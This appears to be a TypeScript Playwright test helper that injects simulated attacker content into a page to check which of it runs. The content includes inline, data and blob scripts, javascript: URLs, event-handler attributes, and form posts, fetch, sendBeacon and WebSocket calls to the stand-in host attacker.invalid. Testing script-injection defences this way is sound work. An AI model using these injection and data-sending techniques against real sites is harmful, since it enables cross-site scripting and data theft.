import type { Page } from "playwright-core";

/**
 * Puts into the open page what an attacker would who found a way to inject elements, and waits until it has had its time.
 * Whatever of it runs says so by its name.
 */
export async function setTraps(page: Page): Promise<readonly string[]> {
  return page.evaluate(async () => {
    const ran: string[] = [];
    Object.assign(window, { runs: (name: string) => ran.push(name) });
    const put = (tag: string, attributes: Readonly<Record<string, string>>, text = "") => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      element.textContent = text;
      document.body.append(element);
      return element;
    };
    const says = (name: string) => `parent.runs("${name}")`;
    const blob = (name: string) => URL.createObjectURL(new Blob([says(name)], { type: "text/javascript" }));
    put("script", {}, says("inline script"));
    put("script", { type: "module" }, says("inline module"));
    put("script", { src: `data:text/javascript,${says("data script")}` });
    put("script", { src: blob("blob script") });
    put("script", { src: "http://attacker.invalid/script.js" });
    put("img", { src: "data:,", onerror: says("event attribute") });
    put("iframe", { srcdoc: `<script>${says("script in a frame")}</script>` });
    put("iframe", { src: `javascript:${says("address of a frame")}` });
    put("a", { href: `javascript:${says("address of a link")}` }).click();
    setTimeout(says("text for a timer"));
    for (const tag of ["img", "iframe", "embed"]) put(tag, { src: "http://attacker.invalid/" });
    put("object", { data: "http://attacker.invalid/" });
    put("link", { rel: "stylesheet", href: "http://attacker.invalid/style.css" });
    put("style", {}, "body { background: url(http://attacker.invalid/background.png) }");
    put("base", { href: "http://attacker.invalid/" });
    const form = put("form", { action: "http://attacker.invalid/", method: "post", target: "elsewhere" });
    put("iframe", { name: "elsewhere" });
    (form as HTMLFormElement).submit();
    await fetch("http://attacker.invalid/").catch(() => undefined);
    navigator.sendBeacon("http://attacker.invalid/", "text");
    const socket = () => new WebSocket("ws://attacker.invalid/");
    const worker = () => new Worker(blob("worker"));
    for (const make of [socket, worker]) {
      try {
        make();
      } catch {
        // Refused at once, as it should be.
      }
    }
    await new Promise((resolve) => setTimeout(resolve, 500));
    return ran;
  });
}
